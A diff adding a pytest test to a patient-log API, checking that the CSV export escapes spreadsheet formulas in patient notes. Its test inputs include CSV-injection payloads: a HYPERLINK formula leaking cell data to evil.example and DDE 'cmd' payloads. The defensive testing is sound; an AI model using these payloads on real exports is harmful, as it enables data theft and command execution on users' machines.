@@ -259,3 +259,27 @@ def test_the_log_list_pages_with_its_own_cursor(client, headers, patient, items)
     rest = client.get(f"/api/v1/patients/{patient.id}/logs?limit=2&cursor={first['next_cursor']}", headers=headers)
     assert rest.status_code == 200
     assert len(first["items"]) == 2 and len(rest.json["items"]) == 1 and rest.json["next_cursor"] is None
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_the_csv_export_neutralises_formulas_in_patient_text(client, make, headers, patient, items, note):
+    import csv
+    import io
+
+    sync(client, headers, patient, [entry(items[0], note=note)])
+    physio = make.headers(db.session.get(type(patient), patient.patient.physiotherapist_id), now=NOW)
+    response = client.get(f"/api/v1/patients/{patient.id}/logs.csv", headers=physio)
+    header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    cell = row[header.index("note")]
+    assert cell == "'" + note  # read back as text: the apostrophe keeps any spreadsheet from evaluating it
+    assert row[header.index("utc_offset_minutes")].lstrip("-").isdigit()  # numbers are left as numbers
